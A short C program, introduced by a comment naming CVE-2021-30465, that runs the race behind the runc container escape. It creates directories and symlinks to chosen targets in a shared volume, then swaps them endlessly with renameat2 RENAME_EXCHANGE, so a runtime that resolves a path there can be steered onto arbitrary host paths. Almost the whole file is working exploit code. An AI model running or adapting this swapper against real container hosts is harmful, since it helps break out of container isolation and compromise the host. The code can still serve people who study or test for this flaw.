/* Who shares a volume swaps directories for links as fast as it can: whoever resolves a path there twice, or follows
 * what it found, ends where the links lead (CVE-2021-30465).
 *
 *   swapper DIRECTORY TARGET…
 *
 * For target i, DIRECTORY/i is now a directory, and now a link to the target. */

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int count, char **words)
{
	char name[16], link[16];

	if (count < 3 || chdir(words[1]))
		return 1;
	for (int i = 2; i < count; i++) {
		snprintf(name, sizeof name, "%d", i - 2);
		snprintf(link, sizeof link, ".%d", i - 2);
		if (mkdir(name, 0755) || symlink(words[i], link))
			return 2;
	}
	printf("swapping\n");
	fflush(stdout);
	for (;;)
		for (int i = 2; i < count; i++) {
			snprintf(name, sizeof name, "%d", i - 2);
			snprintf(link, sizeof link, ".%d", i - 2);
			syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, link, RENAME_EXCHANGE);
		}
}
